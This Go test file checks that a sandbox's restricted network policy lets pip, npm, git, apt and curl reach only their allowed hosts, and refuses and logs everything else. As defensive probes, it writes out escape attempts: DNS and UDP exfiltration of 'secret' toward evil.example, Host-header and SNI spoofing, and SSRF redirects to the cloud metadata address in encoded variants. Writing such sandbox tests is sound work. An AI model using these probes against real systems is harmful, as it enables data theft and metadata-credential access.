// Copyright 2026 The sandpit authors
// SPDX-License-Identifier: Apache-2.0

package script

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	v1 "sandpit.dev/api/v1"
)

// tool is a program of the image that fetches something, used as anybody uses it.
type tool struct {
	name   string
	root   bool     // it runs as the sandbox's root
	hosts  []string // what it needs
	first  string   // the one that it asks first, of these
	script string
	says   string // when it succeeded
}

var tools = []tool{
	{
		name: "curl", hosts: []string{"web.example"}, first: "web.example",
		script: `curl -sS https://web.example/secure && curl -sS http://web.example/plain`, says: "the page of /plain",
	},
	{
		name: "pip", hosts: []string{"files.example", "pypi.example"}, first: "pypi.example",
		script: `pip install -q --no-cache-dir --force-reinstall --target lib gadget && PYTHONPATH=lib python3 -m gadget`, says: "a gadget",
	},
	{
		name: "npm", hosts: []string{"npm.example"}, first: "npm.example",
		script: `rm -rf app ~/.npm && mkdir app && cd app && npm install gizmo && node -e 'require("gizmo")'`, says: "a gizmo",
	},
	{
		name: "git", hosts: []string{"git.example"}, first: "git.example",
		script: `rm -rf repo && git clone -q https://git.example/repo.git repo && cd repo && cat README &&
date +%s%N > news && git add news && git commit -q -m news && git push -q origin HEAD && echo pushed`, says: "pushed",
	},
	{
		name: "apt", root: true, hosts: []string{"apt.example"}, first: "apt.example",
		script: `rm -rf /etc/apt/sources.list.d/* /var/lib/apt/lists/* && echo 'deb [trusted=yes] http://apt.example ./' > /etc/apt/sources.list &&
echo 'Acquire::Retries "0";' > /etc/apt/apt.conf.d/99test && apt-get clean && dpkg --purge widget && apt-get -q update && apt-get -q install -y widget && cat /opt/widget`, says: "a widget",
	},
}

// settings are what makes the tools ask the test's hosts, and believe them.
var settings = []string{
	"CURL_CA_BUNDLE=/workspace/ca.pem", "GIT_SSL_CAINFO=/workspace/ca.pem", "NODE_EXTRA_CA_CERTS=/workspace/ca.pem",
	"PIP_CERT=/workspace/ca.pem", "PIP_INDEX_URL=https://pypi.example/simple", "npm_config_registry=https://npm.example/",
	"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.org", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.org",
	// None of them is to wait, where it is refused, for better days.
	"PIP_RETRIES=0", "npm_config_fetch_retries=0", "npm_config_update_notifier=false", "npm_config_audit=false", "npm_config_fund=false",
}

// field is where TestNetwork is played: a world, a server in it, and what is served there.
type field struct {
	*world
	server *server
	shops  *registries
	doors  *doors
	api    netip.AddrPort // the server's own
}

// must runs a command of the server's, which has to succeed.
func (f *field) must(t *testing.T, args ...string) string {
	t.Helper()
	out, err := f.run(f.server, args...)
	if err != nil {
		t.Fatalf("%v: %v\n%s", args, err, out)
	}
	return out
}

// inside runs a script in a sandbox, and gives all that it said.
func (f *field) inside(t *testing.T, box string, root bool, script string) (string, bool) {
	t.Helper()
	args := []string{"exec"}
	if root {
		args = append(args, "-u", "root")
	}
	for _, s := range settings {
		args = append(args, "-e", s)
	}
	out, err := f.run(f.server, append(args, box, "-c", script)...)
	if _, err := code(err); err != nil {
		t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return out, err == nil
}

// create makes a sandbox that knows the hosts' authority.
func (f *field) create(t *testing.T, name string, flags ...string) {
	t.Helper()
	f.must(t, append([]string{"create", "--name", name}, flags...)...)
	if out, ok := f.inside(t, name, false, "cat > ca.pem <<'EOF'\n"+string(f.shops.authority)+"EOF"); !ok {
		t.Fatal(out)
	}
}

// allow lets a sandbox reach names, and nothing else.
func (f *field) allow(t *testing.T, box string, names ...string) {
	t.Helper()
	f.must(t, "network", "set", box, "restricted", "--allow-domain", strings.Join(names, ","))
}

// log is what a sandbox tried to reach.
func (f *field) log(t *testing.T, box string) (l v1.NetworkLog) {
	t.Helper()
	if err := json.Unmarshal([]byte(f.must(t, "network", "log", box, "-o", "json")), &l); err != nil {
		t.Fatal(err)
	}
	return l
}

// refused finds an entry of a log.
func refused(l v1.NetworkLog, protocol, name, address, reason string) bool {
	return slices.ContainsFunc(l.Items, func(e v1.NetworkEntry) bool {
		return !e.Allowed && e.Protocol == protocol && e.Name == name && e.Reason == reason && e.Detail != "" &&
			(address == "" || e.Address == address)
	})
}

// TestNetwork shows that the tools of an image work through a network that is
// restricted to what they need, and that nothing else is reached. All of it is in a
// world of the test's own: hosts, names, and the server.
func TestNetwork(t *testing.T) {
	images := needRoot(t)
	names := map[string]netip.Addr{
		"other.example": shelf, // it is there, and nobody allows it
		"house.example": house, "evil.example": stranger,
		"metadata.example": metadata, "loop.example": loopback,
	}
	for _, h := range hosts {
		names[h] = shelf
	}
	w := newWorld(t, names)
	f := &field{world: w, shops: openRegistries(t, w), api: netip.AddrPortFrom(house, 8080), doors: watchDoors(t, w,
		netip.AddrPortFrom(stranger, 53), netip.AddrPortFrom(stranger, 80), netip.AddrPortFrom(stranger, 443),
		netip.AddrPortFrom(metadata, 80), netip.AddrPortFrom(loopback, 8080))}
	empty := w.host(t)
	outer, err := network()
	if err != nil {
		t.Fatal(err)
	}
	f.open(t, images)
	f.create(t, "box")

	for _, tl := range tools {
		t.Run(tl.name, func(t *testing.T) { f.use(t, tl) })
	}
	t.Run("Presets", f.presets)
	t.Run("AnIndexWithoutItsFilesIsNotEnough", func(t *testing.T) {
		f.allow(t, "box", "pypi.example")
		before := f.shops.count("files.example")
		if out, ok := f.inside(t, "box", false, tools[1].script); ok || f.shops.count("files.example") != before {
			t.Errorf("it worked: %s", out)
		}
		if l := f.log(t, "box"); !refused(l, "dns", "files.example", "", "domain") {
			t.Errorf("not on the record: %+v", l.Items)
		}
	})
	t.Run("Explains", f.explains)
	t.Run("FollowsNobodyHome", f.redirects)
	t.Run("ChangesUnderOpenConnections", f.changes)
	t.Run("OutlivesTheServer", f.outlives)
	t.Run("Learns", f.learns)
	t.Run("LeavesTheHostAsItWas", func(t *testing.T) {
		if d := difference(empty, w.host(t)); d != "" {
			t.Errorf("while sandboxes run:\n%s", d)
		}
		if err := f.cleanUp(); err != nil {
			t.Error(err)
		}
		if d := difference(empty, w.host(t)); d != "" {
			t.Errorf("after them:\n%s", d)
		}
		now, err := network()
		if err != nil {
			t.Fatal(err)
		}
		if d := difference(outer, now); d != "" {
			t.Errorf("around the world:\n%s", d)
		}
		if came := f.doors.visitors(); len(came) > 0 {
			t.Errorf("somebody came where nobody may: %q", came)
		}
	})
}

// open makes the server, with more variables, and starts it in the world.
func (f *field) open(t *testing.T, images string, env ...string) {
	t.Helper()
	dir := t.TempDir()
	config := filepath.Join(dir, "config.yaml")
	// All of the range is allowed, so that nothing keeps the host's other address but that
	// it is the host's.
	err := os.WriteFile(config, fmt.Appendf(nil, "network:\n  allow_private: [198.51.100.0/24, %s/32, %s/32]\n", shelf, stranger), 0o600)
	if err != nil {
		t.Fatal(err)
	}
	// The host's package tools are set to a company's mirrors.
	for name, text := range map[string]string{
		".npmrc":               "registry=https://npm.example/\n//npm.example/:_authToken=hidden\n",
		".config/pip/pip.conf": "[global]\nindex-url = https://reader:hidden@pypi.example/simple\nextra-index-url = https://files.example/more\n",
	} {
		at := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	f.server = &server{dir: dir, env: append(append(environment(dir, images), "SANDPIT_CONFIG="+config, "SANDPIT_LISTEN="+f.api.String()), env...)}
	t.Cleanup(func() {
		if err := f.cleanUp(); err != nil {
			t.Error(err)
		}
	})
	f.start(t)
}

// start starts the server.
func (f *field) start(t *testing.T) {
	t.Helper()
	var err error
	f.in(func() { err = f.server.start() })
	if err != nil {
		t.Fatal(err)
	}
}

// cleanUp puts the server away, once.
func (f *field) cleanUp() (err error) {
	if f.server.cmd != nil {
		f.in(func() { err = f.server.cleanUp() })
	}
	return err
}

// use tries a tool with its hosts allowed, and without.
func (f *field) use(t *testing.T, tl tool) {
	if tl.name == "git" {
		if _, err := exec.LookPath("git"); err != nil {
			t.Skip("this host has no git to serve a repository with")
		}
	}
	f.allow(t, "box", tl.hosts...)
	if out, ok := f.inside(t, "box", tl.root, tl.script); !ok || !strings.Contains(out, tl.says) {
		t.Fatalf("with its hosts allowed: %s", out)
	}
	count := func() (n int) {
		for _, h := range tl.hosts {
			n += f.shops.count(h)
		}
		return n
	}
	if count() == 0 {
		t.Fatal("it never came")
	}
	// All hosts are at one address, and each is on the record by its own name.
	l := f.log(t, "box")
	for _, h := range tl.hosts {
		if !slices.ContainsFunc(l.Items, func(e v1.NetworkEntry) bool { return e.Allowed && e.Protocol == "tcp" && e.Name == h }) {
			t.Errorf("a connection to %s is not on the record: %+v", h, l.Items)
		}
	}
	before := count()
	f.allow(t, "box", "other.example")
	out, ok := f.inside(t, "box", tl.root, tl.script)
	if ok || count() != before {
		t.Errorf("without its hosts it worked: %s", out)
	}
	if l := f.log(t, "box"); !refused(l, "dns", tl.first, "", "domain") {
		t.Errorf("not on the record: %+v", l.Items)
	}
}

// presets: a package is installed after one word, from the mirrors that the host's tools are set to.
func (f *field) presets(t *testing.T) {
	f.create(t, "word", "--allow", "python,node")
	for _, tl := range tools[1:3] { // pip and npm
		if out, ok := f.inside(t, "word", tl.root, tl.script); !ok || !strings.Contains(out, tl.says) {
			t.Errorf("%s: %s", tl.name, out)
		}
	}
	shown := f.must(t, "network", "log", "word", "-o", "json")
	var l v1.NetworkLog
	if err := json.Unmarshal([]byte(shown), &l); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(l.Policy.AllowPresets, []string{"python", "node"}) {
		t.Errorf("presets: %q", l.Policy.AllowPresets)
	}
	for _, h := range []string{"pypi.example", "files.example", "npm.example"} {
		if !slices.ContainsFunc(l.Policy.PresetDomains, func(d v1.PresetDomain) bool { return d.Domain == h && d.Source == "host" }) || !slices.Contains(l.Policy.AllowDomains, h) {
			t.Errorf("%s is not told: %+v", h, l.Policy)
		}
	}
	listed := f.must(t, "network", "presets")
	if !strings.Contains(listed, "npm.example") || strings.Contains(shown+listed, "hidden") {
		t.Errorf("presets: %s", listed)
	}
	// The debian preset is what the image's own apt is set to.
	if out := f.must(t, "network", "presets", "-o", "json"); !strings.Contains(out, `"source": "image"`) {
		t.Errorf("nothing comes from the image: %s", out)
	}
	if out := f.must(t, "network", "log", "word", "--propose"); !strings.HasPrefix(out, "sandpit network set word restricted --allow 'python' --allow 'node'") || strings.Contains(out, "pypi.example") {
		t.Errorf("proposes %s", out)
	}
	f.must(t, "rm", "-f", "word")
}

// explains: what is refused is told in the program's protocol.
func (f *field) explains(t *testing.T) {
	f.allow(t, "box", "web.example")
	for _, c := range []struct{ title, script, says, protocol, name, address, reason string }{
		{"an address", `curl -sS http://198.51.100.3/`, "198.51.100.3:80 is neither among the addresses", "tcp", "", "198.51.100.3", "address"},
		{"an address with a name of its own making", `curl -sS --resolve evil.example:80:198.51.100.3 http://evil.example/`,
			"evil.example", "tcp", "evil.example", "198.51.100.3", "domain"},
		{"another Host", `curl -sS http://web.example/ && curl -sS -H 'Host: other.example' http://web.example/`,
			"sandpit: the connection was for another host than it named", "tcp", "other.example", "198.51.100.1", "name"},
		{"another server name", `curl -sS https://web.example/ && curl -sSk --resolve other.example:443:198.51.100.1 https://other.example/`,
			"alert access denied", "tcp", "other.example", "198.51.100.1", "name"},
		{"a question to a foreign resolver", `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(bytes.fromhex("1234010000010000000000000673656372657404" "6576696c" "076578616d706c650000100001"), ("198.51.100.3", 53))
print("rcode", s.recv(512)[3] & 15)'`, "rcode 3", "dns", "secret.evil.example", "", "domain"},
		{"datagrams", `python3 -c '
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("198.51.100.3", 443)); print("sent")'`, "sent", "udp", "", "198.51.100.3", "address"},
	} {
		before := f.shops.count("other.example")
		out, _ := f.inside(t, "box", false, c.script)
		if !strings.Contains(out, c.says) || f.shops.count("other.example") != before {
			t.Errorf("%s: it was told %s", c.title, out)
		}
		if l := f.log(t, "box"); !refused(l, c.protocol, c.name, c.address, c.reason) {
			t.Errorf("%s: not on the record: %+v", c.title, l.Items)
		}
	}
}

// redirects: a host that may be reached sends a program to where it may not go, by
// address, and by names that the policy itself allows.
func (f *field) redirects(t *testing.T) {
	f.must(t, "network", "set", "box", "restricted", "--allow-domain", "web.example,metadata.example,loop.example,house.example",
		"--allow-cidr", "0.0.0.0/0,::/0")
	// What the API says to anybody, so that it would be known.
	const mark = "request_id"
	if out := f.visit(t); !strings.Contains(out, mark) {
		t.Fatalf("the API says %s", out)
	}
	for _, c := range []struct{ to, says, protocol, name, address, reason string }{
		{"http://169.254.169.254/latest/meta-data/", "only the server's operator can allow it", "tcp", "", "169.254.169.254", "private"},
		{"http://2852039166/latest/meta-data/", "only the server's operator can allow it", "tcp", "", "169.254.169.254", "private"},
		{"http://[::ffff:169.254.169.254]/", "only the server's operator can allow it", "tcp", "", "169.254.169.254", "private"},
		{"http://[fd00:ec2::254]/", "only the server's operator can allow it", "tcp", "", "fd00:ec2::254", "private"},
		{"http://metadata.example/", "resolve host", "dns", "metadata.example", "", "private"},
		{"http://loop.example:8080/v1/info", "resolve host", "dns", "loop.example", "", "private"},
		{"http://127.0.0.1:8080/v1/info", "connect to 127.0.0.1", "", "", "", ""}, // its own loopback, where nobody listens
		{"http://[::1]:8080/v1/info", "connect to ::1", "", "", "", ""},
		{"http://0.0.0.0:8080/v1/info", "connect to 0.0.0.0", "", "", "", ""},
		{"http://198.51.100.2:8080/v1/info", "an address of the server's own host", "tcp", "", "198.51.100.2", "host"},
		{"http://house.example:8080/v1/info", "an address of the server's own host", "tcp", "house.example", "198.51.100.2", "host"},
	} {
		for _, root := range []bool{false, true} {
			out, _ := f.inside(t, "box", root, "curl -sSL -m 20 'http://web.example/go?to="+c.to+"' 2>&1; echo; echo ended")
			if !strings.Contains(out, c.says) || strings.Contains(out, mark) || !strings.HasSuffix(out, "ended") {
				t.Errorf("%s, root %v: it was told %s", c.to, root, out)
			}
		}
		if l := f.log(t, "box"); c.protocol != "" && !refused(l, c.protocol, c.name, c.address, c.reason) {
			t.Errorf("%s: not on the record: %+v", c.to, l.Items)
		}
	}
}

// visit asks the server's API for what it tells nobody without a token, from the world.
func (f *field) visit(t *testing.T) string {
	t.Helper()
	var c net.Conn
	var err error
	f.in(func() { c, err = net.Dial("tcp", f.api.String()) })
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, _ = fmt.Fprintf(c, "GET /v1/info HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", f.api)
	b, err := io.ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// changes: a change of the policy cuts what it forbids and nothing else.
func (f *field) changes(t *testing.T) {
	f.allow(t, "box", "web.example", "git.example")
	follow := func(host string) (*exec.Cmd, *bufio.Reader, *drip) {
		t.Helper()
		cmd := f.server.command("exec", "-e", "CURL_CA_BUNDLE=/workspace/ca.pem", "box", "-c", "curl -sSN https://"+host+"/drip 2>&1; echo curl ended with $?")
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		f.in(func() { err = cmd.Start() })
		if err != nil {
			t.Fatal(err)
		}
		lines := bufio.NewReader(out)
		if line, err := lines.ReadString('\n'); err != nil || line != "a drop from "+host+"\n" {
			t.Fatalf("got %q, %v", line, err)
		}
		d := <-f.shops.drips
		if d.host != host {
			t.Fatalf("%s was asked for, and %s answers", host, d.host)
		}
		return cmd, lines, d
	}
	cutOne, cutLines, cutDrip := follow("web.example")
	keptOne, keptLines, keptDrip := follow("git.example")

	f.allow(t, "box", "git.example")
	set := time.Now()
	select {
	case <-cutDrip.cut.Done():
	case <-time.After(10 * time.Second):
		t.Fatal("the connection goes on")
	}
	t.Logf("the connection was cut within %v of the command's end", time.Since(set))
	rest := new(strings.Builder)
	_, _ = cutLines.WriteTo(rest)
	if err := cutOne.Wait(); err != nil || !strings.Contains(rest.String(), "curl ended with ") || strings.Contains(rest.String(), "ended with 0") {
		t.Errorf("it ended with %v and %q", err, rest)
	}
	select {
	case keptDrip.more <- struct{}{}:
	case <-keptDrip.cut.Done():
		t.Fatal("the other connection was cut, too")
	}
	if line, err := keptLines.ReadString('\n'); err != nil || line != "a drop from git.example\n" {
		t.Errorf("the other connection: got %q, %v", line, err)
	}
	f.must(t, "network", "set", "box", "off")
	select {
	case <-keptDrip.cut.Done():
	case <-time.After(10 * time.Second):
		t.Error("without a network the connection goes on")
	}
	_, _ = keptLines.WriteTo(rest)
	if err := keptOne.Wait(); err != nil {
		t.Error(err)
	}
}

// outlives: the policy holds after the server was killed, and what its predecessor
// answered counts where the program says whom it means.
func (f *field) outlives(t *testing.T) {
	f.allow(t, "box", "web.example")
	f.in(func() {
		if err := f.server.end(syscall.SIGKILL); err != nil {
			t.Error(err)
		}
	})
	if out, ok := f.inside(t, "box", false, "true"); ok {
		t.Errorf("nobody serves, and it ran: %s", out)
	}
	f.start(t)
	fetch := func(host string) string {
		return "curl -sS --resolve " + host + ":443:198.51.100.1 https://" + host + "/page"
	}
	if out, ok := f.inside(t, "box", false, fetch("web.example")); !ok || !strings.Contains(out, "the page of /page") {
		t.Errorf("what was allowed: %s", out)
	}
	before := f.shops.count("other.example")
	if out, ok := f.inside(t, "box", true, fetch("other.example")); ok || f.shops.count("other.example") != before {
		t.Errorf("what was not: %s", out)
	}
	if l := f.log(t, "box"); !refused(l, "tcp", "other.example", "198.51.100.1", "name") && !refused(l, "tcp", "other.example", "198.51.100.1", "domain") {
		t.Errorf("not on the record: %+v", l.Items)
	}
}

// learns: what the tools need is proposed, all of it and no more, and is enough.
func (f *field) learns(t *testing.T) {
	f.create(t, "pupil", "--learn")
	var used []string
	each := func(t *testing.T) {
		t.Helper()
		for _, tl := range tools {
			if tl.name == "git" {
				if _, err := exec.LookPath("git"); err != nil {
					continue
				}
			}
			if out, ok := f.inside(t, "pupil", tl.root, tl.script); !ok || !strings.Contains(out, tl.says) {
				t.Fatalf("%s: %s", tl.name, out)
			}
			used = append(used, tl.hosts...)
		}
	}
	each(t)
	slices.Sort(used)
	l := f.log(t, "pupil")
	got := slices.Sorted(slices.Values(l.Proposal.AllowDomains))
	if !slices.Equal(got, used) || len(l.Proposal.AllowCIDRs)+len(l.Proposal.AllowPorts) > 0 || l.Proposal.Mode != "restricted" || l.Proposal.Learn {
		t.Errorf("it proposes %+v, want %q; the log is %+v", l.Proposal, used, l.Items)
	}
	proposal := f.must(t, "network", "log", "pupil", "--propose")
	apply := exec.Command("sh", "-c", proposal)
	apply.Env, apply.Dir = f.server.env, f.server.dir
	var out []byte
	var err error
	f.in(func() { out, err = apply.CombinedOutput() })
	if err != nil {
		t.Fatalf("%s: %v\n%s", proposal, err, out)
	}
	each(t)
	if out, ok := f.inside(t, "pupil", false, "curl -sS http://other.example/"); ok {
		t.Errorf("what was not used is reached: %s", out)
	}
	for _, e := range f.log(t, "pupil").Items {
		if !e.Allowed && e.Name != "other.example" {
			t.Errorf("refused: %+v", e)
		}
	}
}
